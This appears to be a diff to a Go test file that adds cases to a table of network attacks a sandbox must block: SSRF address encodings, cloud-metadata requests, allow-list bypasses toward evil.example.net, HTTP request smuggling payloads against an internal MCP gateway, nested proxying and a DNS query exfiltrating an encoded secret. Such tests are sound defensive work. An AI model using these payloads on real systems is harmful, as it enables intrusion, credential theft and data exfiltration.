@@ -50,6 +50,35 @@ var netAttacks = []struct{ name, works, inside string }{
 	{"IPv6 of an allowed name", "", "curl -6 -sf -m5 https://example.com/"},
 	{"IPv6", "", "curl -gsf -m5 -k 'https://[2606:4700::1111]/'"},
 	{"IPv4 in IPv6", "", "curl -gskf -m5 'https://[::ffff:127.0.0.1]/'"},
+	{"the host by a number", "", "curl -sf -m5 http://2130706433:NPORT/"},
+	{"the host by hexadecimal", "", "curl -sf -m5 http://0x7f000001:NPORT/"},
+	{"the host by octal", "", "curl -sf -m5 http://0177.0.0.1:NPORT/"},
+	{"the host by a short address", "", "curl -sf -m5 http://127.1:NPORT/"},
+	{"the host by no address", "", "curl -sf -m5 http://0.0.0.0:NPORT/"},
+	{"the host by no IPv6 address", "", "curl -gsf -m5 'http://[::]:NPORT/'"},
+	{"the host by IPv4 in IPv6", "", "curl -gsf -m5 'http://[::ffff:7f00:1]:NPORT/'"},
+	{"the host by an address with a zone", "", "curl -gsf -m5 'http://[fe80::1%25lo]:NPORT/'"},
+	{"the host by its name", "", "curl -sf -m5 http://$(cat /proc/sys/kernel/hostname):NPORT/"},
+	{"the host by localhost", "", "curl -sf -m5 http://localhost:NPORT/"},
+	{"metadata by a number", "", "curl -sf -m5 http://2852039166/latest/meta-data/"},
+	{"metadata by its name", "", "curl -sf -m5 http://metadata.google.internal/"},
+	{"name with a dot at its end", "", "curl -skf -m5 https://evil.example.net./"},
+	{"name in other letters", "", "curl -skf -m5 https://EVIL.example.net/"},
+	{"name with an allowed one before it", "", "curl -skf -m5 https://example.com.evil.example.net/"},
+	{"name with an allowed one as its user", "", "curl -skf -m5 https://example.com@evil.example.net/"},
+	{"another role's by a dot in the name", "", "curl -sf -m5 http://zeno.internal./mcp/reader"},
+	{"another role's by capitals", "", "curl -sf -m5 http://ZENO.INTERNAL/MCP/READER"},
+	{"another role's by a parameter", "", "curl -sf -m5 --path-as-is 'http://zeno.internal/mcp/worker;/../reader'"},
+	{"another role's by a NUL", "", "curl -sf -m5 --path-as-is http://zeno.internal/mcp/reader%00/worker"},
+	{"another role's by h2 in plain", "", "curl -sf -m5 --http2-prior-knowledge http://zeno.internal/mcp/reader"},
+	{"another role's behind its own", "", said(`POST /mcp/worker HTTP/1.1\r\nHost: zeno.internal\r\nContent-Length: 5\r\n\r\nhelloGET /mcp/reader HTTP/1.1\r\nHost: zeno.internal\r\nConnection: close\r\n\r\n`)},
+	{"another role's in a body of two lengths", "", said(`POST /mcp/worker HTTP/1.1\r\nHost: zeno.internal\r\nContent-Length: 61\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /mcp/reader HTTP/1.1\r\nHost: zeno.internal\r\nConnection: close\r\n\r\n`)},
+	{"another role's by an upgrade", "", said(`GET /mcp/worker HTTP/1.1\r\nHost: zeno.internal\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /mcp/reader HTTP/1.1\r\nHost: zeno.internal\r\nConnection: close\r\n\r\n`)},
+	{"another role's by a backslash", "", said(`GET /mcp/worker/..\\reader HTTP/1.1\r\nHost: zeno.internal\r\nConnection: close\r\n\r\n`)},
+	{"another role's in a header that is two", "", said(`GET /mcp/worker HTTP/1.1\r\nHost: zeno.internal\r\nX: a\nGET /mcp/reader HTTP/1.1\r\nConnection: close\r\n\r\n`)},
+	{"CONNECT through CONNECT", "", "curl -skf -m5 -p -x http://zeno.internal:80 --preproxy http://example.com:80 https://evil.example.net/"},
+	{"DNS of another class", "", udp(`s.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\7example\3com\0\0\1\0\3", ("127.0.0.53", 53)); assert s.recv(1500)[7] > 0`)},
+	{"DNS of every type", "", udp(`ask("127.0.0.53", b"c2VjcmV0.evil.example.net", 255)`)},
 	{"a header that ends early", "", `printf 'GET / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: hidden.example.com\r\n\r\n' | timeout 5 openssl s_client -quiet -CAfile $SSL_CERT_FILE -servername example.com -connect example.com:443 2>/dev/null | grep -q smuggled`},
 	{"a line of its own in a header", "", `printf 'GET / HTTP/1.1\r\nHost: example.com\r\nX: a\rHost: hidden.example.com\r\n\r\n' | timeout 5 openssl s_client -quiet -CAfile $SSL_CERT_FILE -servername example.com -connect example.com:443 2>/dev/null | grep -q '^HTTP/1.1 200'`},
 	{"a protocol that is not HTTP", "", `printf 'SSH-2.0-x\r\n' | timeout 5 openssl s_client -quiet -CAfile $SSL_CERT_FILE -servername example.com -connect example.com:443 2>/dev/null | grep -qi 'ssh'`},
@@ -64,6 +93,18 @@ var netAttacks = []struct{ name, works, inside string }{
 	{"another route", "", "ip route add 10.0.0.0/8 dev lo"},
 	{"another interface", "", "ip link add d0 type dummy"},
 	{"a server in the proxy's place", "", `python3 -c 'import socket; s = socket.socket(); s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1); s.bind(("198.18.0.1", 443)); s.listen()'`},
+}
+
+// said is a Python program that says a text to the endpoint's name; it fails where the answer is not of another role's.
+func said(text string) string {
+	return `python3 -c '
+import socket
+s = socket.create_connection(("zeno.internal", 80), 5); s.settimeout(5); s.sendall(b"` + text + `"); got = b""
+while True:
+    more = s.recv(65536)
+    if not more: break
+    got += more
+assert b"gateway /mcp/reader" in got'`
 }
 
 // udp is a Python program with a socket; ask fails where the answer holds no record.
@@ -113,7 +154,7 @@ func TestNoAttackGetsOutOfTheNetwork(t *testing.T) {
 	}
 	after, _, events := o.seen()
 	for _, r := range after[len(requests):] {
-		if r != "example.com /" && r != "example.com /redirect" {
+		if r != "example.com /" && r != "example.com /redirect" && r != o.gateway.Listener.Addr().String()+" /mcp/worker" {
 			t.Errorf("a request went out: %s", r)
 		}
 	}
